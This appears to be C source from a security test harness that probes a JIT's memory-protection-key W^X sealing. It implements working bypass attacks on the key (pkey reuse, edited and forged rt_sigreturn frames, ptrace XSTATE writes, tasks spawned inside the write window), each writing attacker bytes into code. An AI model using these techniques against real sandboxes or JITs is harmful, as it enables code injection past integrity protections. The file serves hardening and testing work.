/*
 * openers.c - key openers: the kernel opens the code's protection key for
 * the attacker (issue 41).
 *
 * Under --seal=pkey the code is mapped read-write-execute under a key K
 * that the JIT's thread opens only around its own copy (libjit's
 * arena_write(): WRPKRU), and the mapping is sealed, so that no mm call
 * can change it.  Then W^X is exactly "PKRU write-disables K wherever the
 * JIT is not writing".  The attacks here leave the mapping alone and have
 * the kernel change a thread's PKRU instead, then make a plain store of
 * the attacker's bytes at fib's entry:
 *
 *   pkey-reuse            pkey_free(K), pkey_alloc(0, 0): the same number
 *                         comes back, with rights 0 set in the caller's PKRU
 *   sigreturn-edit        a handler sets PKRU to 0 in its own frame's XSAVE
 *                         image; rt_sigreturn restores it
 *   sigreturn-forged      a frame no signal delivered (copied from one that
 *                         was, PKRU 0 in it), handed to a raw rt_sigreturn
 *   ptrace-xstate         a forked tracer (same uid, PR_SET_PTRACER) sets
 *                         PKRU to 0 with PTRACE_SETREGSET(NT_X86_XSTATE)
 *   window-thread-store   a thread created inside the JIT's write window
 *                         keeps the open PKRU after the window closes
 *   window-clone-store    the same with a CLONE_VM process
 *   window-clone-madvise  that process madvise(MADV_DONTNEED)s the code:
 *                         upstream's seal lets a discard through where the
 *                         caller's PKRU lets it write
 *   window-signal-frame   (writers.c) a signal taken inside the window, on
 *                         an alternate stack aimed at the code
 *
 * The write window is the JIT's own: the attack opens K exactly as
 * arena_write() does, makes the one call the JIT would not make there, and
 * closes K again before the new task writes.  The store is made by the
 * thread whose PKRU the kernel changed, guarded: a fault (the key refused
 * it, SEGV_PKUERR) is caught and answers EFAULT, and the thread's PKRU is
 * put back as it was before the attack so that the probe reads the code
 * as the JIT's thread does.  Answers: 0 (the store went through), the
 * errno of a refused opener call, EFAULT (the store, or a forged
 * rt_sigreturn, faulted), or ATTACK_SETUP_FAILED.
 */
#define _GNU_SOURCE
#include "attacks.h"

#include <cpuid.h>
#include <errno.h>
#include <elf.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#ifndef NT_X86_XSTATE
#define NT_X86_XSTATE 0x202
#endif

uint32_t pkru_read(void)
{
	uint32_t eax, edx;
	__asm__ volatile(".byte 0x0f, 0x01, 0xee" /* rdpkru */
			 : "=a"(eax), "=d"(edx) : "c"(0));
	(void)edx;
	return eax;
}

void pkru_write(uint32_t pkru)
{
	__asm__ volatile(".byte 0x0f, 0x01, 0xef" /* wrpkru */
			 : : "a"(pkru), "c"(0), "d"(0) : "memory");
}

/* The code's key, as smaps names it; -1 if none. */
static int code_key(const struct target *t)
{
	return t->in_key_space ? smaps_pkey((uintptr_t)t->base) : -1;
}

/* Open the key for writing in this thread, as the JIT's write window does. */
void key_window_open(int key)
{
	pkru_write(pkru_read() & ~(3u << (2 * key)));
}

/* --- the guarded store ------------------------------------------------ */

static __thread sigjmp_buf store_escape;

static void on_store_fault(int sig, siginfo_t *info, void *uc)
{
	(void)sig;
	(void)info;
	(void)uc;
	siglongjmp(store_escape, 1);
}

/*
 * A plain store of the attacker's bytes at fib's entry by this thread,
 * with whatever rights its PKRU holds now: 0, or EFAULT when it faulted.
 * Afterwards this thread's PKRU is `closed` again (a handler runs with the
 * kernel's initial PKRU, which siglongjmp() keeps).
 */
static int store_entry(const struct target *t, uint32_t closed)
{
	struct sigaction sa = { .sa_sigaction = on_store_fault,
				.sa_flags = SA_SIGINFO | SA_NODEFER }, old;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGSEGV, &sa, &old) != 0)
		return ATTACK_SETUP_FAILED;
	uint8_t bytes[ENTRY_PAYLOAD_LEN];
	entry_payload(bytes);
	volatile uint8_t *entry = t->base + t->entry_offset;
	volatile int answer = EFAULT;
	if (sigsetjmp(store_escape, 1) == 0) {
		for (size_t i = 0; i < sizeof bytes; i++)
			entry[i] = bytes[i];
		answer = 0;
	}
	sigaction(SIGSEGV, &old, NULL);
	pkru_write(closed);
	return answer;
}

/* --- pkey-reuse ------------------------------------------------------- */

int attack_pkey_reuse(const struct target *t)
{
	int key = code_key(t);
	if (key <= 0)
		return ATTACK_SETUP_FAILED;
	uint32_t closed = pkru_read();
	if (syscall(SYS_pkey_free, key) != 0)
		return errno;
	/* whatever number comes back: a kernel that keeps K must not open it */
	syscall(SYS_pkey_alloc, 0, 0);
	return store_entry(t, closed);
}

/* --- the XSAVE image: where PKRU lies in it --------------------------- */

#define XFEATURE_PKRU 9
#define XSAVE_SW_BYTES 464	/* fxregs_state.sw_reserved: _fpx_sw_bytes */
#define XSAVE_HEADER 512	/* xstate_bv */

/* PKRU's offset in the standard (uncompacted) XSAVE format; 0 if none. */
static size_t pkru_offset(void)
{
	unsigned eax, ebx, ecx, edx;
	if (!__get_cpuid_count(0xd, XFEATURE_PKRU, &eax, &ebx, &ecx, &edx) || eax < 4)
		return 0;
	return ebx;
}

/* Set PKRU to 0 (every key open) in an XSAVE image of len bytes. */
static bool open_pkru_in_image(uint8_t *xsave, size_t len)
{
	size_t at = pkru_offset();
	if (!xsave || at < XSAVE_HEADER + 64 || at + 4 > len)
		return false;
	uint64_t xstate_bv;
	memcpy(&xstate_bv, xsave + XSAVE_HEADER, sizeof xstate_bv);
	xstate_bv |= 1ull << XFEATURE_PKRU;
	memcpy(xsave + XSAVE_HEADER, &xstate_bv, sizeof xstate_bv);
	memset(xsave + at, 0, 4);
	return true;
}

/* The XSAVE image of a signal frame and its length; false if the frame
 * holds no XSAVE image with PKRU (an FXSAVE-only frame). */
static bool frame_image(ucontext_t *uc, uint8_t **xsave, size_t *len)
{
	*xsave = (uint8_t *)uc->uc_mcontext.fpregs;
	if (!*xsave)
		return false;
	struct _fpx_sw_bytes sw;	/* <signal.h>'s */
	memcpy(&sw, *xsave + XSAVE_SW_BYTES, sizeof sw);
	if (sw.magic1 != FP_XSTATE_MAGIC1 || !(sw.xstate_bv & (1ull << XFEATURE_PKRU)))
		return false;
	*len = sw.extended_size;
	return true;
}

/* --- sigreturn-edit --------------------------------------------------- */

static volatile sig_atomic_t frame_edited;

static void on_edit_own_frame(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	uint8_t *xsave;
	size_t len;
	frame_edited = frame_image(ucv, &xsave, &len) &&
		       open_pkru_in_image(xsave, len);
}

static int raise_with(void (*handler)(int, siginfo_t *, void *))
{
	struct sigaction sa = { .sa_sigaction = handler, .sa_flags = SA_SIGINFO },
			 old;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGUSR1, &sa, &old) != 0)
		return -1;
	syscall(SYS_tgkill, getpid(), (pid_t)syscall(SYS_gettid), SIGUSR1);
	sigaction(SIGUSR1, &old, NULL);
	return 0;
}

int attack_sigreturn_edit(const struct target *t)
{
	if (code_key(t) <= 0)
		return ATTACK_SETUP_FAILED;
	uint32_t closed = pkru_read();
	frame_edited = 0;
	if (raise_with(on_edit_own_frame) != 0 || !frame_edited) {
		errno = ENOTSUP;	/* no XSAVE image with PKRU in the frame */
		return ATTACK_SETUP_FAILED;
	}
	return store_entry(t, closed);
}

/* --- sigreturn-forged ------------------------------------------------- */

/*
 * rt_sigreturn finds its frame at the stack pointer: pretcode (popped by
 * the handler's ret) just below, then the ucontext, the siginfo, and the
 * XSAVE image (64-aligned) the ucontext points at.  The forged frame lies
 * high in a static area, so that the SIGSEGV a refused rt_sigreturn
 * raises has room for its own frame below it.
 */
#define FORGED_ROOM (64 * 1024)
#define FORGED_IMAGE_MAX (16 * 1024)

struct forged_frame {
	uint64_t pretcode;
	ucontext_t uc;
	siginfo_t info;
	uint8_t image[FORGED_IMAGE_MAX] __attribute__((aligned(64)));
};

static struct {
	uint8_t room[FORGED_ROOM];
	struct forged_frame frame;
} forged __attribute__((aligned(64)));

static uint8_t landing_stack[16 * 1024] __attribute__((aligned(16)));
static sigjmp_buf forged_back;
static volatile sig_atomic_t template_taken;

static void __attribute__((noreturn)) forged_landing(void)
{
	siglongjmp(forged_back, 1);
}

/* A real frame, copied: the template the attacker edits. */
static void on_template(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	ucontext_t *uc = ucv;
	uint8_t *xsave;
	size_t len;
	if (!frame_image(uc, &xsave, &len) || len > FORGED_IMAGE_MAX)
		return;
	memcpy(&forged.frame.uc, uc, sizeof forged.frame.uc);
	memcpy(forged.frame.image, xsave, len);
	template_taken = open_pkru_in_image(forged.frame.image, len);
}

static void __attribute__((noinline, noreturn)) sigreturn_at(void *uc)
{
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "mov $15, %%eax\n\t"	/* __NR_rt_sigreturn */
			 "syscall\n\t"
			 "ud2"
			 : : "r"(uc) : "memory");
	__builtin_unreachable();
}

int attack_sigreturn_forged(const struct target *t)
{
	if (code_key(t) <= 0)
		return ATTACK_SETUP_FAILED;
	uint32_t closed = pkru_read();
	template_taken = 0;
	if (raise_with(on_template) != 0 || !template_taken) {
		errno = ENOTSUP;
		return ATTACK_SETUP_FAILED;
	}
	mcontext_t *mc = &forged.frame.uc.uc_mcontext;
	mc->fpregs = (fpregset_t)forged.frame.image;
	mc->gregs[REG_RIP] = (greg_t)(uintptr_t)forged_landing;
	/* as if called: rsp + 8 16-aligned at the entry */
	mc->gregs[REG_RSP] = (greg_t)(uintptr_t)(landing_stack + sizeof landing_stack - 8);
	/* a refused frame is a SIGSEGV: caught as a faulted store is */
	struct sigaction sa = { .sa_sigaction = on_store_fault,
				.sa_flags = SA_SIGINFO | SA_NODEFER }, old;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGSEGV, &sa, &old) != 0)
		return ATTACK_SETUP_FAILED;
	volatile int refused = 0;
	if (sigsetjmp(store_escape, 1) != 0) {
		refused = 1;
	} else if (sigsetjmp(forged_back, 1) == 0) {
		sigreturn_at(&forged.frame.uc);
	}
	sigaction(SIGSEGV, &old, NULL);
	if (refused) {
		pkru_write(closed);
		return EFAULT;
	}
	return store_entry(t, closed);
}

/* --- ptrace-xstate ---------------------------------------------------- */

#define XSTATE_BUFFER (16 * 1024)

/* The tracer: seize, interrupt, read the victim's XSAVE image, set its
 * PKRU to 0, write it back, detach.  The answer is SETREGSET's. */
static int xstate_writer(const struct target *t, pid_t victim, void *arg)
{
	(void)t;
	(void)arg;
	static uint8_t image[XSTATE_BUFFER] __attribute__((aligned(64)));
	if (ptrace(PTRACE_SEIZE, victim, 0, 0) != 0)
		return ATTACK_SETUP_FAILED;
	int status, answer = ATTACK_SETUP_FAILED;
	struct iovec iov = { .iov_base = image, .iov_len = sizeof image };
	if (ptrace(PTRACE_INTERRUPT, victim, 0, 0) == 0 &&
	    waitpid(victim, &status, __WALL) == victim &&
	    ptrace(PTRACE_GETREGSET, victim, (void *)NT_X86_XSTATE, &iov) == 0) {
		if (open_pkru_in_image(image, iov.iov_len))
			answer = ptrace(PTRACE_SETREGSET, victim,
					(void *)NT_X86_XSTATE, &iov) == 0 ? 0 : errno;
		else
			errno = ENOTSUP;
	}
	int err = errno;
	ptrace(PTRACE_DETACH, victim, 0, 0);
	errno = err;
	return answer;
}

int attack_ptrace_xstate(const struct target *t)
{
	if (code_key(t) <= 0)
		return ATTACK_SETUP_FAILED;
	uint32_t closed = pkru_read();
	int answer = in_writer_child(t, xstate_writer, NULL, true);
	if (answer != 0)
		return answer;
	return store_entry(t, closed);
}

/* --- the tasks created inside the write window ------------------------ */

enum window_act { WINDOW_STORE, WINDOW_MADVISE };

struct window_task {
	const struct target *t;
	enum window_act act;
	uint32_t closed;
	int go;			/* read end: the window has closed */
	int answer;
};

static bool wait_for_go(int fd)
{
	char token;
	ssize_t n;
	do
		n = read(fd, &token, 1);
	while (n < 0 && errno == EINTR);
	return n == 1;
}

static void *window_thread(void *arg)
{
	struct window_task *w = arg;
	w->answer = wait_for_go(w->go) ? store_entry(w->t, w->closed)
				       : ATTACK_SETUP_FAILED;
	return NULL;
}

/* The CLONE_VM process: it shares the parent's memory and TLS (raw calls
 * only, no handler of its own); a faulted store kills it with SIGSEGV. */
static int window_clone(void *arg)
{
	struct window_task *w = arg;
	if (!wait_for_go(w->go))
		return 255;
	if (w->act == WINDOW_MADVISE)
		return madvise(w->t->base, w->t->length, MADV_DONTNEED) == 0 ? 0 : errno;
	uint8_t bytes[ENTRY_PAYLOAD_LEN];
	entry_payload(bytes);
	volatile uint8_t *entry = w->t->base + w->t->entry_offset;
	for (size_t i = 0; i < sizeof bytes; i++)
		entry[i] = bytes[i];
	return 0;
}

#define WINDOW_CLONE_STACK (64 * 1024)

static int clone_answer(pid_t pid)
{
	int status = 0;
	while (waitpid(pid, &status, __WALL) < 0)
		if (errno != EINTR)
			return ATTACK_SETUP_FAILED;
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSEGV)
		return EFAULT;
	if (WIFEXITED(status) && WEXITSTATUS(status) != 255)
		return WEXITSTATUS(status);
	errno = ECHILD;
	return ATTACK_SETUP_FAILED;
}

/*
 * Open the window, create the task (a thread, or a CLONE_VM process),
 * close the window, then let the task act: it holds whatever PKRU the
 * kernel gave it at its creation.
 */
static int in_window(const struct target *t, bool thread, enum window_act act)
{
	int key = code_key(t);
	if (key <= 0)
		return ATTACK_SETUP_FAILED;
	int go[2];
	if (pipe(go) != 0)
		return ATTACK_SETUP_FAILED;
	static uint8_t *stack;
	if (!thread && !stack) {
		stack = mmap(NULL, WINDOW_CLONE_STACK, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
		if (stack == MAP_FAILED) {
			stack = NULL;
			return ATTACK_SETUP_FAILED;
		}
	}
	struct window_task w = { .t = t, .act = act, .closed = pkru_read(),
				 .go = go[0], .answer = ATTACK_SETUP_FAILED };
	pthread_t tid;
	pid_t pid = -1;
	int created;
	fflush(NULL);
	key_window_open(key);
	if (thread)
		created = pthread_create(&tid, NULL, window_thread, &w) == 0;
	else
		created = (pid = clone(window_clone, stack + WINDOW_CLONE_STACK,
				       CLONE_VM | SIGCHLD, &w)) > 0;
	pkru_write(w.closed);
	bool went = created && write(go[1], "g", 1) == 1;
	close(go[1]);
	int answer = ATTACK_SETUP_FAILED;
	if (created && thread) {
		pthread_join(tid, NULL);
		answer = w.answer;
	} else if (created) {
		answer = clone_answer(pid);
	}
	close(go[0]);
	return went ? answer : ATTACK_SETUP_FAILED;
}

int attack_window_thread_store(const struct target *t)
{
	return in_window(t, true, WINDOW_STORE);
}

int attack_window_clone_store(const struct target *t)
{
	return in_window(t, false, WINDOW_STORE);
}

int attack_window_clone_madvise(const struct target *t)
{
	return in_window(t, false, WINDOW_MADVISE);
}
